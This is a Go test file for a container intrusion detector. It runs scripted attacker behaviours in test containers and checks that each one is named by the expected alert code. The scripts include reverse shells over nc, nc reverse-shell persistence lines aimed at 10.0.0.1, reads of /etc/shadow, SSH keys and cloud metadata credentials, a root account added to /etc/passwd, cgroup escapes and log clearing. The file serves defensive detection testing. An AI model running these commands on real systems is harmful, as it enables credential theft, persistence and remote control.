package analyzer

import (
	"net"
	"strconv"
	"strings"
	"testing"
)

// shellCases are behaviours done the way an intruder with a shell does
// them: busybox applets (symlinks to one binary) run by `sh -c` in a
// container of an image whose learned program is that shell, so the
// behaviour, not an unknown binary, is what must be named. Several are
// evasions of one class: a credential read through "..", a symlink or a
// hardlink; a copied shell run from /tmp, /dev/shm, /var/tmp or the data
// directory; an awk one-liner; history emptied with a redirection.
// revshellPort is replaced by the test's listener port.
var shellCases = []coverageCase{
	{mode: "sh-shadow", code: CodeReadSensitive, pause: true, script: "cat /etc/shadow"},
	{mode: "sh-traversal", code: CodeReadSensitive, pause: true, script: "cd /data && cat ../etc/../etc/./shadow"},
	{mode: "sh-symlink", code: CodeReadSensitive, pause: true, script: "ln -s /etc/shadow /data/s && cat /data/s"},
	{mode: "sh-hardlink", code: CodeSensitiveLink, pause: true, script: "ln /etc/shadow /data/h && cat /data/h"},
	// Read through a hardlink: matched by the file's identity, which the
	// collector registers when it learns of the container (a read in the
	// container's first milliseconds is named by the link, above).
	{mode: "sh-hardlink-read", code: CodeReadSensitive, pause: true, script: "sleep 1; ln /etc/shadow /data/h && cat /data/h"},
	{mode: "sh-environ", code: CodeReadSensitive, pause: true, script: "cat /proc/1/environ"},
	{mode: "sh-sshkey", code: CodeReadSensitive, pause: true, script: "mkdir -p /root/.ssh && echo k > /root/.ssh/id_rsa; sleep 1; cat /root/.ssh/id_rsa"},
	{mode: "sh-tmpcopy", code: CodeExecTmp, pause: true, script: "cp /bin/busybox /tmp/x && /tmp/x sleep 1000000"},
	{mode: "sh-devshm", code: CodeExecTmp, pause: true, script: "cp /bin/busybox /dev/shm/x && /dev/shm/x sleep 1000000"},
	{mode: "sh-vartmp", code: CodeExecTmp, pause: true, script: "mkdir -p /var/tmp && cp /bin/busybox /var/tmp/k && /var/tmp/k sleep 1000000"},
	{mode: "sh-renamed", code: CodeExecDrift, pause: true, script: "cp /bin/busybox /data/kworker && /data/kworker sleep 1000000"},
	{mode: "sh-awk", code: CodeExecInterpreter, pause: true, script: `awk 'BEGIN { system("id") }'`},
	{mode: "sh-histclear", code: CodeLogClear, pause: true, script: "mkdir -p /root && echo ls >> /root/.ash_history && : > /root/.ash_history"},
	{mode: "sh-histrm", code: CodeLogClear, pause: true, script: "mkdir -p /root && echo ls >> /root/.bash_history && rm /root/.bash_history"},
	{mode: "sh-logclear", code: CodeLogClear, pause: true, script: "mkdir -p /var/log && echo x >> /var/log/auth.log && truncate -s 0 /var/log/auth.log"},
	{mode: "sh-timer", code: CodeCronPersist, pause: true, script: "mkdir -p /etc/systemd/system && echo '[Timer]' > /etc/systemd/system/evil.timer"},
	{mode: "sh-crontab", code: CodeCronPersist, pause: true, script: "mkdir -p /var/spool/cron/crontabs && echo '* * * * * sh' > /var/spool/cron/crontabs/root"},
	{mode: "sh-preload", code: CodeShellConfig, pause: true, script: "echo /tmp/evil.so > /etc/ld.so.preload"},
	{mode: "sh-authkeys", code: CodeSSHPersist, pause: true, script: "mkdir -p /root/.ssh && echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"},
	{mode: "sh-passwd", code: CodeAccountChange, pause: true, script: "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd"},
	{mode: "sh-setuid", code: CodeSetuidBit, pause: true, script: "cp /bin/busybox /data/s && chmod u+s /data/s"},
	{mode: "sh-binwrite", code: CodeWriteSystem, pause: true, script: "echo x > /bin/evil"},
	{mode: "sh-mknod", code: CodeDevCreate, pause: true, script: "mknod /dev/evil c 1 3"},
	{mode: "sh-hidden", code: CodeHiddenFile, script: "mkdir -p /usr/lib/.cache"},
	{mode: "sh-mount", code: CodeMount, pause: true, script: "mkdir -p /mnt && mount -t proc proc /mnt"},
	{mode: "sh-unshare", code: CodeNamespace, pause: true, script: "unshare -m true"},
	{mode: "sh-nsenter", code: CodeNamespace, pause: true, script: "nsenter -t 1 -m true"},
	{mode: "sh-chroot", code: CodeChroot, pause: true, script: "chroot / true"},
	{mode: "sh-insmod", code: CodeKernelModule, pause: true, script: "echo x > /data/m.ko && insmod /data/m.ko"},
	{mode: "sh-bulk", code: CodeBulkDelete, pause: true, script: "mkdir -p /data/b && for i in $(seq 1 80); do echo x > /data/b/$i; done && rm -rf /data/b"},
	{mode: "sh-grepkeys", code: CodeCredSearch, script: "grep -r 'BEGIN RSA PRIVATE KEY' /etc"},
	// busybox's find runs in the shell's child without exec: its argv is
	// not seen, the applet is (exec.unseen, from its comm).
	{mode: "sh-findkeys", code: CodeExecUnseen, pause: true, script: "find / -name 'id_rsa*' -o -name '*.pem'"},
	{mode: "sh-wget", code: CodeExecTool, script: "wget -q -T 1 http://10.255.255.1/x -O /tmp/x"},
	{mode: "sh-revshell", code: CodeReverseShell, pause: true, hostNet: true, script: "nc 127.0.0.1 revshellPort -e /bin/sh"},
	{mode: "sh-scan", code: CodeNetScan, script: "for p in $(seq 20 60); do nc -w 1 10.255.255.1 $p </dev/null; done"},
	{mode: "sh-procsys", code: CodeKernelTunable, pause: true, script: "echo 1 > /proc/sys/net/ipv4/ip_forward"},
	{mode: "sh-sysctl", code: CodeKernelTunable, pause: true, script: "sysctl -w kernel.domainname=evil"},
	{mode: "sh-sysfs", code: CodeKernelTunable, pause: true, script: "echo 1 > /sys/kernel/mm/ksm/run"},
	{mode: "sh-dpkg", code: CodeExecPkgManager, script: "dpkg -i /data/x.deb"},
	{mode: "sh-passwdtool", code: CodeAccountChange, pause: true, script: "passwd -d root"},
	{mode: "sh-minerport", code: CodeMinerPort, script: "nc -w 1 10.255.255.1 3333 </dev/null"},
	{mode: "sh-login", code: CodeLoginShell, pause: true, script: "echo 'www:x:33:33::/:/bin/sh' >> /etc/passwd && su -s /bin/sh www -c 'sh -l -c true'"},
	{mode: "sh-symlinkover", code: CodeSensitiveLink, pause: true, script: "ln -s /etc/shadow /data/shadow-link"},
	{mode: "sh-decode", code: CodeExecDecode, script: "echo aWQK | base64 -d | sh"},
	// The held-out audit's classes (design 028): what the issue-10 cases
	// did not cover, each as an intruder with a shell would do it.
	// Download and execute: a file written, made executable, run.
	{mode: "sh-dropexec", code: CodeExecDrift, pause: true, script: "cat /bin/busybox > /data/dl && chmod +x /data/dl && /data/dl sleep 1000000"},
	{mode: "sh-dropscript", code: CodeExecDrift, pause: true, script: "printf '#!/bin/sh\\nsleep 1000000\\n' > /data/run.sh && chmod 755 /data/run.sh && /data/run.sh"},
	// Credential access variants.
	{mode: "sh-satoken", code: CodeReadSensitive, pause: true, script: "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d && echo t > $d/token; sleep 1; cat $d/token"},
	{mode: "sh-dockercfg", code: CodeReadSensitive, pause: true, script: "mkdir -p /root/.docker && echo {} > /root/.docker/config.json; sleep 1; cat /root/.docker/config.json"},
	{mode: "sh-homekey", code: CodeReadSensitive, pause: true, script: "mkdir -p /home/app/.ssh && echo k > /home/app/.ssh/id_ed25519; sleep 1; cat /home/app/.ssh/id_ed25519"},
	{mode: "sh-environscan", code: CodeReadSensitive, pause: true, script: "for p in /proc/[0-9]*; do cat $p/environ; done"},
	{mode: "sh-metadata", code: CodeCloudMetadata, pause: true, script: "wget -q -T 1 -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	// The same by its connection (busybox's wget with -T crashes here
	// after its exec: the case above is named by its argv).
	{mode: "sh-metadata-nc", code: CodeCloudMetadata, pause: true, script: "printf 'GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n' | nc -w 1 169.254.169.254 80"},
	// Discovery: a process list read through /proc and ps (an applet the
	// image never ran: exec.unseen; the reads of cmdline are not seen).
	{mode: "sh-pscan", code: CodeExecUnseen, pause: true, script: "for p in /proc/[0-9]*; do cat $p/cmdline; done; ps"},
	// Persistence variants.
	{mode: "sh-rclocal", code: CodeCronPersist, pause: true, script: "echo 'nc 10.0.0.1 4444 -e /bin/sh &' >> /etc/rc.local"},
	{mode: "sh-profiled", code: CodeShellConfig, pause: true, script: "mkdir -p /etc/profile.d && echo 'nc 10.0.0.1 4444 -e /bin/sh &' > /etc/profile.d/x.sh"},
	{mode: "sh-homeauthkeys", code: CodeSSHPersist, pause: true, script: "mkdir -p /home/app/.ssh && echo ssh-ed25519 AAAA >> /home/app/.ssh/authorized_keys"},
	// Escapes from a shell.
	{mode: "sh-corepattern", code: CodeCgroupEscape, pause: true, script: "echo '|/data/x' > /proc/sys/kernel/core_pattern"},
	{mode: "sh-releaseagent", code: CodeCgroupEscape, pause: true, script: "mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; echo /data/x > /tmp/cg/release_agent"},
	{mode: "sh-mountdev", code: CodeMount, pause: true, script: "mknod /data/sda b 8 0; mkdir -p /mnt; mount /data/sda /mnt"},
	// The host's container engine over TCP (an unauthenticated Docker API).
	{mode: "sh-dockerapi", code: CodeRuntimeSocket, pause: true, script: "nc -w 1 10.255.255.1 2375 </dev/null"},
	// The runtime's binary overwritten through procfs (CVE-2019-5736's
	// write; refused here, ETXTBSY: the attempt is what counts), and
	// persistence written through another process's root.
	{mode: "sh-procexe", code: CodeCgroupEscape, pause: true, script: "echo x > /proc/self/exe"},
	{mode: "sh-procroot", code: CodeAccountChange, pause: true, script: "echo 'evil:x:0:0::/:/bin/sh' >> /proc/1/root/etc/passwd"},
	// Impact: files encrypted and renamed away.
	{mode: "sh-encrypt", code: CodeBulkDelete, pause: true, script: "mkdir -p /data/r && for i in $(seq 1 60); do echo x > /data/r/$i.doc; done && for f in /data/r/*; do mv $f $f.locked; done"},
	// Defense evasion: timestamps copied (touch never ran: exec.unseen),
	// the shell renamed like a kernel thread through /proc/self/comm.
	{mode: "sh-timestomp", code: CodeExecUnseen, pause: true, script: "touch -r /bin/busybox /data/state"},
	{mode: "sh-comm", code: CodeMasquerade, pause: true, script: "echo -n kworker/0:2 > /proc/self/comm; cat /etc/hostname"},
	// Lateral movement: the orchestrator's CLI, ssh to a peer (busybox
	// has neither: symlinks to it carry the names).
	{mode: "sh-kubectl", code: CodeContainerAdmin, pause: true, script: "ln -s /bin/busybox /data/kubectl && /data/kubectl get secrets"},
	{mode: "sh-ssh", code: CodeExecTool, script: "ln -s /bin/busybox /data/ssh && /data/ssh root@10.255.255.1"},
	// A reverse shell relayed through a FIFO: no socket on the shell's
	// stdio.
	{mode: "sh-fiforevshell", code: CodeReverseShell, pause: true, hostNet: true, script: "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 revshellPort > /tmp/f"},
}

// benignScript is what the shell image does while it learns and in the
// benign fresh container.
const benignScript = "cat /etc/passwd > /dev/null; echo ok > /data/state; mkdir -p /data/cache; echo x > /data/cache/item; ls /data > /dev/null"

// shellScript is a case's container program: the behaviour, then waiting
// to be killed (output to /dev/null: a detached runc container's stdio is
// the test's).
func shellScript(script string, port int) string {
	s := strings.ReplaceAll(script, "revshellPort", strconv.Itoa(port))
	return "(" + s + ") > /dev/null 2>&1; sleep 1000000"
}

// revshellListener accepts the reverse shell's connection and sends it a
// command, keeping the connection open until the test ends.
func revshellListener(t *testing.T) int {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			t.Cleanup(func() { c.Close() })
			c.Write([]byte("id\n"))
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}
